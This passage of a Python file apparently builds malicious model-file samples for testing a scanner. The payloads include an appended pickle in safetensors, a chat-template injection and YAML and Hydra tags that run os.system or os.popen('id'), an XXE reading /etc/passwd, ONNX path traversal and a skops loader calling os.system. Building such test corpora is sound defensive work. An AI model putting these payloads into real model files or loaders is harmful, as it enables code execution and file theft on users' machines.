        ("safetensors-pickle-behind", {"a": [0, 8]}, bytes(8) + _EVIL),
    ):
        text = json.dumps({n: {"dtype": "F32", "shape": [2], "data_offsets": span} for n, span in header.items()}).encode()
        yield key, struct.pack("<Q", len(text)) + text + data
    yield "hf-auto-map", json.dumps({"architectures": ["A"], "auto_map": {"AutoModel": "evil--repo.modeling_a"}}).encode()
    yield "tokenizer-template", json.dumps({"chat_template": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id') }}"}).encode()
    yield "hydra-target", b"model:\n  _target_: os.system\n  command: id\n"
    yield "yaml-tag", b"!!python/object/apply:os.system ['id']\n"
    yield "pmml-entity", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4">&x;</PMML>'
    onnx_location = b"\n\x08location\x12\x10../../etc/passwd"
    tensor = b"B\x01a" + b"j" + bytes([len(onnx_location)]) + onnx_location + b"p\x01"
    graph = b"*" + bytes([len(tensor)]) + tensor
    yield "onnx-external", b"\x08\x08\x12\x07pytorch:" + bytes([len(graph)]) + graph
    yield "skops-unknown", zipped(schema__json=json.dumps({"__class__": "function", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "protocol": 2, "_skops_version": "0.11"}).encode())


SUITES: Mapping[str, Callable[[], Iterator[tuple[str, bytes]]]] = {
    "gadgets": gadgets,
    "tricks": tricks,
    "containers": containers,
    "formats": formats,
}
